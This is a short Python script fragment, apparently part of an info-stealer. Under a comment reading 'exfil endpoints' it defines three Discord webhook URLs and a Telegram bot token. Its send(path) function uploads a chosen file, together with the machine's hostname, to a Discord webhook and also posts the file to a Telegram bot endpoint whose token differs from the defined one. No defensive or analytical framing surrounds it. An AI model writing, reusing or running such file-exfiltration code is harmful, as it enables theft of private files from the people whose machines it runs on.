import requests, os, platform

# exfil endpoints
WEBHOOK = "https://discord.com/api/webhooks/8645428410366485628/hrztAQpiN0k8s0Rc3VgTg9VaZEoBFUhIiJyqGNSOvQmIQbgSc7I8gzNHj_crZ_YxzGto"
BACKUP = "https://canary.discord.com/api/v10/webhooks/308455026144671818/ECHuLg_Y_C04j6BD9OyUd2gQvDOVwBM3T5lnbyw575r85bLHxb7RQBgImbdo8MAmd6Cd"
PTB = "https://ptb.discordapp.com/api/webhooks/6160803844558966085/keKPPpQqF-K4pGFj1Nz9UqBtLk34XtsvO-K0iEvtE2P4qKF-GyVapQ-j3lWFvjLjKR7P"
TELEGRAM_BOT_TOKEN = "2244659826:AAnGEBBV3WIkNZAObehT_Z2HM5u1ByAUzDW"

def send(path):
    with open(path, 'rb') as fh:
        requests.post(WEBHOOK, files={'file': fh}, data={'content': platform.node()})
    requests.post('https://api.telegram.org/bot1735829771:AAqE3YDZW_QEPXBw-b8m09mx-dH8qzuGsep/sendDocument', files={'document': open(path, 'rb')})
